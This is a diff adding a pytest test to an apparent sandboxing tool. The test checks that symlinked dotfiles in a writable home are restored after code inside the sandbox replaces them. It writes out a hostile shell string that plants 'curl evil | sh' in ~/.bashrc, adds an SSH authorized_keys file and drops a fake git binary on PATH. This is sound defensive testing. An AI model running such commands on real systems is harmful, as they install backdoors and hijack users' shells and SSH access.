@@ -149,6 +149,44 @@ def test_a_workspace_that_is_the_home_keeps_the_folders_of_path_read_only(
     assert not (home / ".cargo" / "bin" / "git").exists()
 
 
+def test_rw_home_links_to_protected_paths_come_back(
+    tmp_path: Path, home: Path, config_dir: Path
+) -> None:
+    """--rw ~ with dotfiles kept as links (~/.bashrc, ~/.ssh, a folder of PATH): the rules stand
+    on what the links name, and code inside that replaces a link by its own file or folder
+    finds it set aside after the run and the link back, with what it named untouched."""
+    dotfiles = home / "dotfiles"
+    (dotfiles / "ssh").mkdir(parents=True)
+    (dotfiles / "bashrc").write_text("alias ll='ls -l'\n")
+    (dotfiles / "bin").mkdir()
+    (home / ".bashrc").symlink_to("dotfiles/bashrc")
+    (home / ".ssh").symlink_to("dotfiles/ssh")
+    (home / "lbin").symlink_to("dotfiles/bin")
+    search_path = f"{home}/lbin:{os.environ['PATH']}"
+    attack = (
+        "rm ~/.bashrc && echo 'curl evil | sh' > ~/.bashrc && echo replaced-bashrc; "
+        "rm ~/.ssh && mkdir ~/.ssh && echo key > ~/.ssh/authorized_keys && echo replaced-ssh; "
+        "rm ~/lbin && mkdir ~/lbin && echo evil > ~/lbin/git && echo replaced-lbin; true"
+    )
+    done = _run(tmp_path, "--rw", "~", "--", "sh", "-c", attack, env={"PATH": search_path})
+    assert done.returncode == 0, done.stderr
+    assert "replaced-bashrc" in done.stdout, done.stdout  # the links themselves were writable
+    for name, target in (
+        (".bashrc", "dotfiles/bashrc"),
+        (".ssh", "dotfiles/ssh"),
+        ("lbin", "dotfiles/bin"),
+    ):
+        assert (home / name).is_symlink() and str((home / name).readlink()) == target, name
+        assert f"{home / name} was a link to {target}" in done.stderr, done.stderr
+    assert (home / ".bashrc").read_text() == "alias ll='ls -l'\n"
+    assert list((dotfiles / "ssh").iterdir()) == [] and list((dotfiles / "bin").iterdir()) == []
+    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
+    kept = run / "links" / home.relative_to("/")
+    assert "curl evil" in (kept / ".bashrc").read_text()
+    assert (kept / ".ssh" / "authorized_keys").read_text() == "key\n"
+    assert (kept / "lbin" / "git").exists()
+
+
 def test_a_normal_run_leaves_the_home_as_it_was(tmp_path: Path, home: Path) -> None:
     """Without --rw ~ nothing is made in the home, placeholders included."""
     (home / ".claude").mkdir(parents=True, exist_ok=True)
